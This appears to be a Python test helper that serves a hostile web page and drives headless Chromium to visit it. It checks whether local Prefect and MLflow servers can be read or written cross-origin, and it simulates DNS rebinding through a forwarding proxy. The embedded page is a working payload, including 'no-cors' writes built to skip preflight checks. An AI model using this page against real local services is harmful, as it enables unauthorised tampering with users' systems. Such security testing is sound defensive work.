"""A page that means harm, served as its author would, and a real browser to visit it."""

import json
import shutil
import subprocess
import tempfile
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

CHROMIUM = next((path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None)
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine (Debian: apt-get install chromium)")
OPTIONS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
OPTIONS += ["--disable-component-update", "--disable-sync"]

# each try says what it got: a status that could be read, "sent" where a page cannot see what came of it, or the browser's error
PAGE = """<!doctype html><script>
const [prefect, mlflow, socket] = %s;
const json = {"Content-Type": "application/json"};
const tries = {
  "read prefect": () => fetch(prefect + "/api/flows/filter", {method: "POST", headers: json, body: "{}"}).then((r) => r.status),
  "version": () => fetch(prefect + "/api/admin/version").then((r) => r.status),
  "write prefect": () => fetch(prefect + "/api/variables/", {method: "POST", headers: json,
    body: JSON.stringify({name: "harm_json", value: "1"})}).then((r) => r.status),
  // a body without a type needs no permission of the other side, and Prefect takes it for JSON
  "write prefect unasked": () => fetch(prefect + "/api/variables/", {method: "POST", mode: "no-cors",
    body: new Blob([JSON.stringify({name: "harm_blob", value: "1"})])}).then((r) => r.status || "sent"),
  "read mlflow": () => fetch(mlflow + "/ajax-api/2.0/mlflow/experiments/search?max_results=9", {credentials: "include"})
    .then((r) => r.status),
  "write mlflow unasked": () => fetch(mlflow + "/ajax-api/2.0/mlflow/experiments/create", {method: "POST", mode: "no-cors",
    body: JSON.stringify({name: "harm_text"})}).then((r) => r.status || "sent"),
  "write mlflow": () => fetch(mlflow + "/ajax-api/2.0/mlflow/experiments/create", {method: "POST", headers: json,
    body: JSON.stringify({name: "harm_json"})}).then((r) => r.status),
  "socket": () => new Promise((done, failed) => {
    const opened = new WebSocket(socket + "/api/events/in", ["prefect"]);
    opened.onopen = () => done("open");
    opened.onerror = () => failed("closed");
  }),
};
(async () => {
  const told = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { told[name] = await attempt(); } catch (error) { told[name] = "refused: " + error; }
  }
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


class Harm:
    """A server of ours that stands for another's: it serves the page and hears what came of it.

    With `behind` it hands every other request on to that port as it came, `Host` and all: so does a browser whose page's name was
    pointed at this machine after the page was loaded.
    """

    def __init__(self, targets: list[str], behind: int | None = None) -> None:
        self.told: dict[str, Any] = {}
        self.heard = threading.Event()
        page, harm = (PAGE % json.dumps(targets)).encode(), self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.answer(200, page, "text/html") if self.path == "/harm" else self.hand_on()

            def do_POST(self) -> None:
                if self.path != "/told":
                    return self.hand_on()
                harm.told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                harm.heard.set()
                self.answer(200, b"", "text/plain")

            def hand_on(self) -> None:
                if behind is None:
                    return self.answer(404, b"", "text/plain")
                body = self.rfile.read(int(self.headers.get("Content-Length", 0))) or None
                request = urllib.request.Request(f"http://127.0.0.1:{behind}{self.path}", body, dict(self.headers), method=self.command)
                try:
                    with urllib.request.urlopen(request, timeout=30) as reply:
                        self.answer(reply.status, reply.read(), "application/json")
                except urllib.error.HTTPError as error:
                    self.answer(error.code, error.read(), "text/plain")

            def answer(self, status: int, body: bytes, kind: str) -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None: ...

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]

    @contextmanager
    def serving(self) -> Iterator["Harm"]:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        try:
            yield self
        finally:
            self.server.shutdown()
            self.server.server_close()


def visit(harm: Harm, address: str, rules: str) -> dict[str, Any]:
    """What the page at `address` says it got, in a browser that resolves names by `rules`."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        command = [str(CHROMIUM), *OPTIONS, f"--user-data-dir={profile}", f"--host-resolver-rules={rules}", address]
        process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            assert harm.heard.wait(60), f"the browser told nothing of {address}"
        finally:
            process.terminate()
            process.wait(20)
    return harm.told


def shows(address: str) -> str:
    """The page as a person would see it after its scripts have run."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        command = [str(CHROMIUM), *OPTIONS, f"--user-data-dir={profile}", "--virtual-time-budget=15000", "--dump-dom", address]
        return subprocess.run(command, capture_output=True, text=True, timeout=90, check=True).stdout
